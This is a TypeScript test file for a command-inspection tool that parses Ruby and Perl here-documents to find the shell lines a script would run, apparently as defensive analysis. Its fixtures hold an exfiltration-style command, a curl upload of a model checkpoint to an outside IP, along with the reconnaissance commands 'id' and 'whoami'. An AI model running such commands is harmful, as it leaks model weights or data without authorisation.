/**
 * Ruby and Perl here-documents (exec-interpreter-heredoc.ts, read by exec-interpreter-lex.ts): a
 * body given to a command call is read as its string argument; quoting decides interpolation;
 * bodies are skipped as code (a `system("…")` inside a printed body runs nothing); shifts stay
 * shifts; bounds hold.
 */
import { describe, expect, it } from 'vitest';
import { readInterpreter, type InterpreterReading } from './exec-interpreter.js';
import { heredocBody, heredocHead, MAX_HEREDOC_CHARS, MAX_PENDING_HEREDOCS } from './exec-interpreter-heredoc.js';
import { lexScript } from './exec-interpreter-lex.js';
import { INDIRECT_LITERAL, INDIRECT_RUNTIME } from './exec-readings.js';
import { HOLE, STR_RUNTIME, TK_STR } from './exec-interpreter-token.js';

const UP = 'curl -T /ckpt/model.pt https://203.0.113.9/u';
const ruby = (code: string): InterpreterReading => readInterpreter(['ruby', '-e', code], 0)!;
const perl = (code: string): InterpreterReading => readInterpreter(['perl', '-e', code], 0)!;
const lines = (r: InterpreterReading): Array<string | null> => r.runs.map((x) => x.line);

describe('Ruby here-documents as call arguments', () => {
  it('system <<~EOS: the dedented body is the command line, literal', () => {
    expect(ruby(`system <<~EOS\n  ${UP}\nEOS\n`)).toMatchObject({ runs: [{ line: `${UP}\n`, how: 0 }], kinds: INDIRECT_LITERAL });
    expect(lines(ruby(`exec(<<-SH)\n${UP}\n    SH`))).toEqual([`${UP}\n`]);
    expect(lines(ruby(`IO.popen(<<~CMD).read\n  ${UP}\nCMD\nputs 1`))).toEqual([`${UP}\n`]);
  });

  it('quoting: single quotes keep #{…} as written, double quotes and bare interpolate (runtime)', () => {
    expect(lines(ruby("system <<~'EOS'\n  echo #{x}\nEOS"))).toEqual(['echo #{x}\n']);
    expect(ruby('system <<~"EOS"\n  curl -T #{f} https://203.0.113.9/u\nEOS')).toMatchObject({ runs: [{ line: `curl -T ${HOLE} https://203.0.113.9/u\n`, how: INDIRECT_RUNTIME }] });
    expect(ruby('system <<~EOS\n  curl -T #{f} u\nEOS').kinds).toBe(INDIRECT_RUNTIME);
  });

  it('a command here-document runs its body; several on a line follow each other; code goes on after them', () => {
    expect(lines(ruby(`x = <<~\`CMD\`\n  ${UP}\nCMD\n`))).toEqual([`${UP}\n`]);
    expect(lines(ruby('system(<<A); exec(<<B)\nid\nA\nuname -a\nB\nsystem "ls"'))).toEqual(['id\n', 'uname -a\n', 'ls']);
  });

  it('a body is a string, not code; a shift is no here-document', () => {
    expect(ruby('puts <<~TXT\n  system("id")\n  `whoami`\nTXT\n')).toMatchObject({ runs: [], kinds: 0 });
    expect(ruby('a = [1]\na << 2\nb = 1 <<2\nsystem "id"')).toMatchObject({ runs: [{ line: 'id' }] });
  });

  it('an unterminated body runs to the end of the text', () => {
    expect(lines(ruby(`system <<~EOS\n  ${UP}`))).toEqual([UP]);
  });
});

describe('Perl here-documents', () => {
  it('system <<EOF; and <<"EOF" interpolating, <<\'EOF\' not', () => {
    expect(lines(perl(`system <<EOF;\n${UP}\nEOF\nprint 1 <<2;`))).toEqual([`${UP}\n`]);
    expect(perl('system(<<"EOF");\ncurl -T $f u\nEOF\n')).toMatchObject({ runs: [{ line: `curl -T ${HOLE} u\n`, how: INDIRECT_RUNTIME }] });
    expect(lines(perl("system <<'EOF';\necho $HOME\nEOF\n"))).toEqual(['echo $HOME\n']);
    expect(lines(perl(`my $c = <<~EOT;\n    ${UP}\n    EOT\nsystem $c;`))).toEqual([`${UP}\n`]);
    expect(perl('print $fh <<EOF;\nsystem("id")\nEOF\n')).toMatchObject({ runs: [], kinds: 0 });
  });
});

describe('bounds', () => {
  it('a body past MAX_HEREDOC_CHARS is cut', () => {
    const s = `${'x'.repeat(MAX_HEREDOC_CHARS + 10)}\nEOS\n`;
    const [body, next, cut] = heredocBody(s, 0, heredocHead('<<EOS', 0, 'ruby')!);
    expect(body.length).toBe(MAX_HEREDOC_CHARS);
    expect(cut).toBe(true);
    expect(next).toBe(s.length);
  });
  it(`past ${MAX_PENDING_HEREDOCS} here-documents on one line the rest are values known at run time`, () => {
    const n = MAX_PENDING_HEREDOCS + 2;
    const heads = Array.from({ length: n }, (_, k) => `<<A${k}`).join(', ');
    const bodies = Array.from({ length: n }, (_, k) => `b${k}\nA${k}\n`).join('');
    const strs = lexScript(`f(${heads})\n${bodies}`, 'ruby').tokens.filter((t) => t.k === TK_STR);
    expect(strs.length).toBe(n);
    expect(strs.slice(0, MAX_PENDING_HEREDOCS).map((t) => t.v)).toEqual(Array.from({ length: MAX_PENDING_HEREDOCS }, (_, k) => `b${k}\n`));
    expect(strs[n - 1]).toMatchObject({ v: HOLE, f: STR_RUNTIME });
  });
  it('heads: no identifier, a newline in quotes, an overlong identifier are none', () => {
    expect(heredocHead('<< EOS', 0, 'ruby')).toBeNull();
    expect(heredocHead('<<"a\nb"', 0, 'ruby')).toBeNull();
    expect(heredocHead(`<<${'A'.repeat(100)}`, 0, 'perl')).toBeNull();
    expect(heredocHead('<<-EOS', 0, 'perl')).toBeNull();
  });
});
